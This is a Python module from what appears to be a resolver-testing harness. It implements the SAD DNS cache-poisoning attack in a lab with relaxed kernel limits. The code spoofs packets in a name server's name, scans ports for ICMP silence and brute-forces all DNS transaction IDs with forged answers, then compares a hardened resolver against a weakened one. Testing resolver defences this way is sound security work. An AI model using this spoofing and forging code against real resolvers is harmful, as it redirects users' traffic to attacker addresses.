"""Decides SAD DNS 1.0: the port of a question is found by ICMP, then all IDs are tried on it while the server still thinks.

The original reads the kernel's global limit of ICMP errors: fifty probes in the server's name, one in the attacker's own;
if the own one is answered, one of the fifty found an open port. Newer kernels draw that limit at random (Linux 5.10) and
ask the limit of each peer first (6.12), so it can hardly be read any more. That is the kernel's merit and not to be
relied on: here the limits are lifted, and the attacker is told which ICMP errors the server gets, more than any side
channel could tell. He tries all of 49152-65535 in two ways, in turn: with probes from his own address, which meet only
sockets that are not connected, and in the server's name, which meet the socket of the question. Then he sends all
65,536 IDs to each port that was silent. The server answers after a second; its names have no letters, so case is no help.
"""

from __future__ import annotations

import struct
import time

from stage import ip, wire
from stage.attack import Attack, Result, Scene
from stage.probes import PROBE, Listener, open_ports, speak_freely
from stage.slow import SLOW_S, slow, teach_slow
from stage.targets import Berthd, Kresd, Unbound
from stage.zones import FORGED, Servers, Zone

ZONE = "100."
PORTS = range(49152, 65536)
OUT_S, PATIENCE_S = 0.02, 0.03
CANDIDATES = 3  # ports that the IDs are tried on, at most
RAW_PORT, RAW_ID = slice(22, 24), slice(28, 30)  # in a datagram with its IPv4 header


def prepare(servers: Servers) -> None:
    servers.add(ZONE, speech=slow(servers))


class Window:
    """One question that is out, and what the attacker makes of the time."""

    def __init__(self, scene: Scene, sender: ip.RawSender, number: int):
        self.ground, self.sender, self.zone = scene.ground, sender, scene.servers.zones[0]
        self.name = "%07d.%s" % (number, ZONE)
        self.begin = time.monotonic()
        self.client = self.ground.C.socket()
        self.client.connect((self.ground.R.address, 53))
        self.client.send(wire.query(self.name))
        time.sleep(OUT_S)

    def datagram(self, source: str, payload: bytes) -> bytearray:
        """From port 53, without a checksum: IPv4 allows that."""
        head = struct.pack("!4H", 53, 0, 8 + len(payload), 0)
        return bytearray(ip.packet(source, self.ground.R.address, ip.UDP, head + payload))

    def find(self, source: str, listener: Listener) -> set[int]:
        """Ports that are silent to a probe."""
        probe = self.datagram(source, PROBE)
        for port in PORTS:
            probe[RAW_PORT] = port.to_bytes(2, "big")
            self.sender.send(probe)
        return set(PORTS) - listener.unreachable(PATIENCE_S)

    def guess(self, port: int) -> None:
        """Forged answers with every ID."""
        question = wire.read_question(wire.query(self.name, edns=False))
        forged = self.datagram(self.zone.address, wire.response(question, [wire.a(question.raw, FORGED)]))
        forged[RAW_PORT] = port.to_bytes(2, "big")
        for ident in range(65536):
            forged[RAW_ID] = ident.to_bytes(2, "big")
            self.sender.send(forged)

    def is_hijacked(self) -> bool:
        self.client.settimeout(3.0)
        try:
            return FORGED in wire.addresses(self.client.recv(4096))
        except OSError:
            return False
        finally:
            self.client.close()


def attack(window: Window, source: str, listener: Listener, numbers: dict[str, int]) -> bool:
    silent = window.find(source, listener)
    alive = silent & open_ports(window.ground.R)[4]
    if time.monotonic() - window.begin < SLOW_S:
        numbers["silent"] += len(silent)
        numbers["open"] += len(alive)
    for port in sorted(silent)[:CANDIDATES]:
        window.guess(port)
    return window.is_hijacked()


def run(scene: Scene) -> Result:
    ground, zone = scene.ground, scene.servers.zones[0]
    speak_freely(ground.R)
    teach_slow(scene.target, ZONE)
    sender = ip.RawSender(ground.A)
    ways = [(ground.A.address, Listener(ground.A)), (zone.address, Listener(ground.S))]
    numbers = {"windows": 0, "silent": 0, "open": 0, "hijacked": 0}
    for number in range(scene.size(20, 8 if scene.target.weak else 4)):
        source, listener = ways[number % 2]
        listener.unreachable(0.01)  # of before
        numbers["windows"] += 1
        numbers["hijacked"] += attack(Window(scene, sender, number), source, listener, numbers)
        if numbers["hijacked"]:
            break
    sender.close()
    numbers.update({key: scene.target.counters().get("upstream." + key, 0) for key in ("mismatched", "tcp")})
    text = "%(hijacked)d answers hijacked in %(windows)d windows; %(silent)d ports were silent to a probe, %(open)d of " \
           "them still open after it" % numbers
    return Result(numbers["hijacked"] > 0, text, numbers)


ATTACK = Attack(
    name="sad-dns",
    title="the port of a question is found by ICMP",
    reference="Man et al. 2020 (SAD DNS); CVE-2020-25705",
    defence="sockets are connected, so only probes in the server's name meet them; the first of those ends the port",
    weakness="sockets are not connected, wrong guesses are ignored",
    prepare=prepare,
    run=run,
    shipped=Berthd,
    weakened=lambda: Berthd("open-sockets"),
    peers=[Unbound, Kresd],
    false_alarm="as shipped the probe has closed the port before the IDs are tried: a forged answer would have to be the "
                "first packet on the same port drawn again, with the right ID: below 1e-7",
)
